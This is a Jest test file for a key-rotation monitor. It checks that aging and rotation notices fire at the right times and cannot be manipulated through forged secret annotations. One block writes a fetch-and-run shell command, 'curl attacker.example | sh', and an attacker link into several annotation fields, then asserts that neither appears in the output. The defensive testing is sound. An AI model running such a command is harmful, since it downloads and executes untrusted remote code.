import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { ownMomentOf } from '../../../src/core/health/deep-schedule.ts';
import { MANAGED_SINCE_FORM } from '../../../src/core/record/managed-since.ts';
import { instantOf, MINUTE_MS, plusMs, type Instant } from '../../../src/core/values/time.ts';
import { DAY_MS, PROJECT, START } from '../../support/cloud.ts';
import { violationsIn } from './witness.ts';
import { CURRENT, hostileWorld, MINE, THEIRS, type HostileWorld } from './world.ts';

const DAYS = 3;
/** The first daily look of the project, and when the check runs around each: two of these runs find it due. */
const LOOK = ownMomentOf(PROJECT, 24, plusMs(instantOf(START), DAY_MS));
const RUN_MINUTES = [-6, 4, 14, 24] as const;
const LOOKS = 2;

type Annotations = Readonly<Record<string, string>>;

const since = (version: number, madeAt: Instant): Annotations => ({
  'key-warden.managed-since': MANAGED_SINCE_FORM.write({ since: madeAt, key: { version, madeAt } }) ?? '',
});
/** So old that it is told of in the first look. */
const AGED = plusMs(LOOK, -83 * DAY_MS - MINUTE_MS);
const YOUNG = plusMs(LOOK, -10 * DAY_MS);

/** What is told of keys that get old, where rotations begin by themselves and where none does. */
const TOLD = [
  ['rotation.planned', {}],
  ['key.aging', { KEY_WARDEN_ROTATIONS_MAX: '0' }],
] as const;

describe.each(TOLD)('%s', (type, more) => {
  let world: HostileWorld;
  beforeAll(async () => {
    world = await hostileWorld({ KEY_WARDEN_NOTICE_DAYS: '7', ...more });
  });
  beforeEach(() => {
    world.startOver();
    theirsSays(since(1, YOUNG));
  });
  afterAll(() => world.close());

  function theirsSays(annotations: Annotations): void {
    world.cloud.secrets.call('updateSecret', {}, { secret: { name: THEIRS, annotations }, updateMask: 'annotations' });
  }

  const told = () => world.said.filter((line) => line.includes(`"type":"${type}"`));
  const toldOf = (secret: string) => told().filter((line) => line.includes(`"secret":"${secret}"`));

  /** Some days, and on each the runs around the look; before each run he writes. Answers how often it was told on each day. */
  async function live(write: (run: number, day: number) => Annotations): Promise<readonly number[]> {
    const each: number[] = [];
    let now: number = START;
    for (let day = 0; day < DAYS; day += 1) {
      const before = told().length;
      for (const [at, minutes] of RUN_MINUTES.entries()) {
        const then = LOOK + day * DAY_MS + minutes * MINUTE_MS;
        await world.cloud.advance(then - now);
        now = then;
        world.write(write(day * RUN_MINUTES.length + at, day));
        expect(await world.call('healthCheck')).toBe(200);
      }
      each.push(told().length - before);
    }
    return each;
  }

  test('is one event of one rotation where nothing is forged, and of the other secret where that one is old', async () => {
    theirsSays(since(1, AGED));
    await live(() => ({}));
    expect(new Set(told()).size).toBe(1);
    expect(toldOf(THEIRS)).toEqual(told());
  });

  test('is told of his own secret in the looks of a day and no more, however he dates its key, and of no other', async () => {
    const another = (run: number, day: number) =>
      since(CURRENT, plusMs(LOOK, (day - 83) * DAY_MS - (run % RUN_MINUTES.length) * 60 * MINUTE_MS - MINUTE_MS));
    const each = await live(another);
    expect(each.filter((times) => times === 0 || times > LOOKS)).toEqual([]);
    expect(toldOf(MINE)).toEqual(told());
    expect(violationsIn(world)).toEqual([]);
  });

  const link = 'https://attacker.example/x';
  const command = 'curl attacker.example | sh';
  const words = (key: string) => `${key} ${link} ${command}`;
  const WRITES: readonly (readonly [string, (key: string) => Annotations])[] = [
    ['beside the date', (key) => beside({ note: words(key), title: link, next: command })],
    ['in place of the date', (key) => beside({ madeAt: words(key) })],
    ['in place of the version', (key) => beside({ version: words(key) })],
    ['as the name of the other secret', () => beside({ secret: THEIRS, name: THEIRS, project: link })],
    ['as its policy', (key) => ({ ...since(CURRENT, AGED), 'key-warden.policy': words(key) })],
    [
      'as windows of its own',
      (key) => ({
        ...since(CURRENT, AGED),
        'key-warden.policy': JSON.stringify({ v: 1, windows: words(key), maxAgeDays: 90 }),
      }),
    ],
    [
      'as an annotation that nobody reads',
      (key) => ({ ...since(CURRENT, AGED), note: words(key), 'key-warden.x': link }),
    ],
  ];
  const beside = (fields: object): Annotations => {
    const text = since(CURRENT, AGED)['key-warden.managed-since'] ?? '{}';
    return { 'key-warden.managed-since': JSON.stringify({ ...JSON.parse(text), ...fields }) };
  };

  test.each(WRITES)('carries no key, link or command that he writes %s', async (_, write) => {
    await live(() => write(world.own.current.keyString));
    expect(told().filter((line) => /attacker|curl/.test(line))).toEqual([]);
    expect(toldOf(THEIRS)).toEqual([]);
    expect(violationsIn(world)).toEqual([]);
  });
});
